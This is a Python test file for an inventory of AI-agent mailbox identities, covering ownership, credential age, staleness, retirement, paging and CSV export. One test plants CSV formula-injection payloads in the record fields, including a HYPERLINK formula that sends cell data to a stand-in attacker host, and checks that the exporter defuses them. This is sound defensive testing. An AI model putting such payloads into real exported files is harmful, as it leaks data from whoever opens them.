"""The record of identities by its reads, on both databases: who answers, what opens, when it was used and drilled."""

from __future__ import annotations

import csv
import io
from typing import Any

from sqlalchemy import update

from core.db.store import Store
from core.db.tables import MAILBOX, OPERATOR
from core.demo.clock import FakeClock
from core.durations import DAY, HOUR
from core.model import Actor, Scope
from core.rules.policy import Policy
from core.serializers import inventory_csv
from core.serializers.inventory_csv import COLUMNS
from core.services.identity import inventory, retirement, tokens
from core.services.identity.inventory import Entry
from core.services.identity.tokens import Grant
from tests.factories.desk import ADDRESS, GAIL, OLIVE, add_mailbox, make_desk
from tests.factories.records import SALES, issued, make_keyed_desk, request


def entries(store: Store, **more: Any) -> dict[str, Entry]:
    with store.read() as conn:
        return {one.record.address: one for one in inventory.everything(conn, now=store.clock.now(), **more)}


def rows(store: Store, **more: Any) -> list[dict[str, str]]:
    """The CSV as an import reads it."""
    now = store.clock.now()
    with store.read() as conn:
        text = "".join(
            inventory_csv.lines(inventory.as_json(one, now=now) for one in inventory.everything(conn, now=now, **more))
        )
    return list(csv.DictReader(io.StringIO(text)))


def codes(one: Entry) -> set[str]:
    return {each.code.value for each in one.findings}


def test_an_entry_names_who_answers_who_signed_and_what_is_in_force(store: Store, clock: FakeClock) -> None:
    make_keyed_desk(store)
    issued(store)
    first = store.transact(
        lambda tx: tokens.issue(
            tx, agent="sales-bot", grant=Grant(scopes=(Scope.READ,), ttl=20 * DAY), token_hash=b"a", actor=GAIL
        )
    )
    clock.advance(micros=3 * DAY)
    second = store.transact(lambda tx: tokens.issue(tx, agent="sales-bot", grant=Grant(), token_hash=b"b", actor=GAIL))
    found = inventory.as_json(entries(store)[SALES], now=store.clock.now())
    assert (found["agent"], found["owner"], found["owner_active"], found["system_owner"]) == (
        "sales-bot", "olive", True, "platform team",
    )  # fmt: skip
    assert (found["owner_reviewer"], found["governance_reviewer"], found["deliverability_reviewer"]) == (
        "olive", "gail", "dora",
    )  # fmt: skip
    assert (found["status"], found["oversight_mode"], found["requested_by"]) == ("active", "gated_send", "alice")
    assert (found["credential_count"], found["scopes"], found["oldest_credential_age_days"]) == (2, ["read", "send"], 3)
    assert [(one["id"], one["age_days"], one["issued_by"]) for one in found["credentials"]] == [
        (first.token, 3, "gail"), (second.token, 0, "gail"),
    ]  # fmt: skip
    (row,) = [one for one in rows(store) if one["mailbox"] == SALES]
    assert (row["credential_ids"], row["scopes"]) == (f"{first.token};{second.token}", "read;send")
    assert list(row) == list(COLUMNS)


def test_an_owner_who_is_gone_leaves_an_identity_unowned(store: Store) -> None:
    make_desk(store)
    assert "unowned" not in codes(entries(store)[ADDRESS])
    store.transact(lambda tx: tx.write(update(OPERATOR).where(OPERATOR.c.name == OLIVE.name).values(disabled_at=1)))
    found = entries(store)[ADDRESS]
    assert "unowned" in codes(found)
    assert not found.owner_active
    assert rows(store)[0]["owner_active"] == "false"


def test_an_owner_without_the_role_or_none_at_all_leaves_it_unowned_too(store: Store) -> None:
    desk = make_desk(store)
    store.transact(
        lambda tx: add_mailbox(
            tx, agent="b", address="b@x.test", stream=desk.stream_id, owner="alice", system_owner="x"
        )
    )
    store.transact(lambda tx: add_mailbox(tx, agent="c", address="c@x.test", stream=desk.stream_id, owner=None))
    found = entries(store)
    assert "unowned" in codes(found["b@x.test"])
    assert "no_system_owner" not in codes(found["b@x.test"])
    assert {"unowned", "no_system_owner"} <= codes(found["c@x.test"])


def test_use_is_kept_and_its_want_is_a_finding(store: Store, clock: FakeClock) -> None:
    desk = make_desk(store, policy=Policy.model_validate({"identities": {"unused_after": 10 * DAY}}))
    assert entries(store)[ADDRESS].last_used_at is None
    clock.advance(micros=9 * DAY)
    used_at = store.clock.now()
    store.transact(lambda tx: tokens.note_use(tx, desk.token.id))
    clock.advance(micros=10 * DAY - 1)
    found = entries(store)[ADDRESS]
    assert (found.last_used_at, found.stale) == (used_at, False)
    clock.advance(micros=1)
    found = entries(store)[ADDRESS]
    assert found.stale
    assert "unused" in codes(found)
    assert rows(store)[0]["stale"] == "true"


def test_a_use_that_was_noted_late_takes_no_later_one_back(store: Store, clock: FakeClock) -> None:
    desk = make_desk(store)
    late = store.clock.now()
    clock.advance(micros=HOUR)
    store.transact(lambda tx: tokens.note_use(tx, desk.token.id))
    at = store.clock.now()
    clock.advance(micros=late - at)
    store.transact(lambda tx: tokens.note_use(tx, desk.token.id))
    assert entries(store)[ADDRESS].last_used_at == at


def test_the_last_message_is_the_mailboxs_own(store: Store, clock: FakeClock) -> None:
    desk = make_desk(store)
    store.transact(lambda tx: add_mailbox(tx, agent="b", address="b@x.test", stream=desk.stream_id))
    desk.submit()
    clock.advance(micros=HOUR)
    desk.submit("bob@example.com")
    found = entries(store)
    assert (found[ADDRESS].last_message_at, found["b@x.test"].last_message_at) == (store.clock.now(), None)


def test_what_has_ended_is_listed_on_request_without_findings(store: Store) -> None:
    make_desk(store)
    request(store)
    store.transact(lambda tx: retirement.retire(tx, ADDRESS, reason="the project ended", actor=OLIVE))
    assert list(entries(store)) == [SALES]
    found = entries(store, ended=True)
    assert found[ADDRESS].record.status == "retired"
    assert found[ADDRESS].findings == ()
    assert found[ADDRESS].credentials == ()


def test_pages_follow_each_other_without_gap_or_repetition(store: Store) -> None:
    desk = make_desk(store)
    names = sorted([ADDRESS, *(f"{letter}@x.test" for letter in "bcdef")])
    for name in names:
        if name != ADDRESS:
            store.transact(
                lambda tx, name=name: add_mailbox(tx, agent=name[0], address=name, stream=desk.stream_id)  # type: ignore[misc]  # a loop's lambda
            )
    seen: list[str] = []
    after: str | None = ""
    while after is not None:
        with store.read() as conn:
            found = inventory.page(conn, now=store.clock.now(), after=after, limit=2)
        seen += [one.record.address for one in found.entries]
        after = found.next
    assert seen == names


def test_no_cell_is_a_formula_whatever_somebody_wrote_into_the_record(store: Store) -> None:
    make_desk(store)
    evil = {
        "purpose": '=HYPERLINK("http://evil.test?"&A1,"open")',
        "systems": "+1+1",
        "system_owner": "@SUM(1)",
        "revoke_when": "-2+3",
        "owner": "\t=1",
    }
    store.transact(lambda tx: tx.write(update(MAILBOX).values(**evil)))
    (row,) = rows(store)
    assert row["purpose"] == "'" + evil["purpose"]
    assert not [cell for cell in row.values() if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_token_of_a_sub_agent_is_an_entry_of_its_own_in_the_chain(store: Store) -> None:
    desk = make_desk(store)
    actor = Actor("agent", "support-bot")
    child = store.transact(
        lambda tx: tokens.delegate(
            tx, parent=desk.token.id, grant=Grant(scopes=(Scope.SEND,), run="r"), token_hash=b"c", actor=actor
        )
    )
    found = inventory.as_json(entries(store)[ADDRESS], now=store.clock.now())["credentials"]
    assert [(one["id"], one["delegated_from"], one["bound_to_run"]) for one in found] == [
        (desk.token.id, None, None), (child.token, desk.token.id, "r"),
    ]  # fmt: skip
